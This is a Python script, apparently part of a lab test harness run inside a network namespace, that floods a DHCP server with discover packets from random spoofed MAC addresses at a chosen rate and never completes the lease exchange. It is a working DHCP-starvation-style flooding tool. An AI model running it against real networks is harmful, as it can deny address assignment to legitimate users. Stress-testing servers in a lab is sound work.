#!/usr/bin/env python3
"""DHCPDISCOVER flood from random MACs (run inside a client namespace, as root).

    flooder.py IFACE RATE SECONDS

Sends RATE DISCOVERs per second for SECONDS, each from a new random locally administered MAC
(chaddr; the broadcast flag set so that the server's OFFER is broadcast and nothing needs ARP),
and never REQUESTs. Prints "sent=N seconds=S" at the end.
"""
import os
import socket
import struct
import sys
import time

MAGIC = b"\x63\x82\x53\x63"


def discover(xid, mac):
    pkt = struct.pack("!BBBBIHH", 1, 1, 6, 0, xid, 0, 0x8000)
    pkt += b"\0" * 16 + mac + b"\0" * 10 + b"\0" * 192 + MAGIC
    pkt += bytes([53, 1, 1, 55, 4, 1, 3, 6, 51, 255])
    return pkt + b"\0" * (300 - len(pkt))


def main():
    iface, rate, seconds = sys.argv[1], float(sys.argv[2]), float(sys.argv[3])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    start = time.monotonic()
    sent = 0
    total = int(rate * seconds)
    while sent < total:
        due = start + sent / rate
        now = time.monotonic()
        if due > now:
            time.sleep(due - now)
        mac = bytes([0x02 | (os.urandom(1)[0] & 0xFC)]) + os.urandom(5)
        try:
            s.sendto(discover(int.from_bytes(os.urandom(4), "big"), mac), ("255.255.255.255", 67))
        except OSError:
            pass
        sent += 1
    print("sent=%d seconds=%.1f" % (sent, time.monotonic() - start))


if __name__ == "__main__":
    main()
